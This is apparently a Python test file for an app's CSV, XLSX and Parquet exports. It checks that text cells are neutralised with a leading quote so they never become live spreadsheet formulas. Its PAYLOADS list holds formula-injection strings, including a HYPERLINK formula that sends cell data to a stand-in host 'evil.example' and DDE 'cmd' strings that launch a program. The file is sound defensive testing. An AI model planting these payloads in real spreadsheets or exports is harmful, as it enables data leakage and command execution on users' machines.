"""Issue 15, exports: text from documents never becomes a live formula in a CSV or XLSX download, while
Parquet keeps the exact text and numbers stay numbers (OWASP "CSV Injection": prefix a single quote)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from reliability.results import record
from tests.sample_dataset import sample_tables
from ui.downloads import FORMULA_STARTS, figures_table, neutralise, to_csv, to_parquet, to_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.fixture(scope="module")
def hostile_table():
    tables = sample_tables()
    figures, sources = tables["figures"].copy(), tables["sources"].copy()
    n = len(figures)
    figures["quote"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(n)]
    figures["value_text"] = [PAYLOADS[(i + 1) % len(PAYLOADS)] for i in range(n)]
    figures["derivation"] = figures["derivation"].astype(object)
    figures.loc[figures.index[0], "derivation"] = "=1+1"
    sources["publisher"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(sources))]
    return figures_table(figures, tables["indicators"], sources, "vi")


def _is_formula_text(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_xlsx_has_no_formula_and_keeps_numbers(hostile_table):
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(hostile_table, "=bộ lọc", "vi")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    assert not [c.value for c in cells if _is_formula_text(c.value)]
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    values = [row[header.index("value")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert values == hostile_table["value"].tolist() and all(isinstance(v, int | float) for v in values)
    quotes = [row[header.index("quote")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert quotes == ["'" + q for q in hostile_table["quote"]]  # the text, shown, not run
    record(
        "Safe exports",
        {
            "format": "XLSX",
            "payloads": len(PAYLOADS),
            "cells": len(cells),
            "outcome": "0 formula cells; text cells that would start one prefixed with '; numbers numeric",
        },
    )


def test_csv_has_no_cell_that_starts_a_formula(hostile_table):
    data = to_csv(hostile_table).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert not [cell for row in rows for cell in row if _is_formula_text(cell)]
    header = rows[0]
    assert [float(r[header.index("value")]) for r in rows[1:]] == hostile_table["value"].tolist()
    assert [r[header.index("quote")] for r in rows[1:]] == ["'" + q for q in hostile_table["quote"]]
    record(
        "Safe exports",
        {
            "format": "CSV",
            "payloads": len(PAYLOADS),
            "cells": sum(len(r) for r in rows),
            "outcome": "no cell starts with = + - @ tab CR LF (or their full-width forms); numbers as written",
        },
    )


def test_parquet_keeps_the_exact_text(hostile_table):
    back = pq.read_table(io.BytesIO(to_parquet(hostile_table, "note"))).to_pandas()
    pd.testing.assert_frame_equal(back, hostile_table, check_dtype=False)
    assert back["quote"].tolist() == hostile_table["quote"].tolist() == [*back["quote"]]
    record(
        "Safe exports",
        {"format": "Parquet", "payloads": len(PAYLOADS), "cells": back.size, "outcome": "exact text kept"},
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("-5", "'-5"), ("Lạng Sơn", "Lạng Sơn"), ("a=1", "a=1"), (-5.0, -5.0), (None, None)],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected
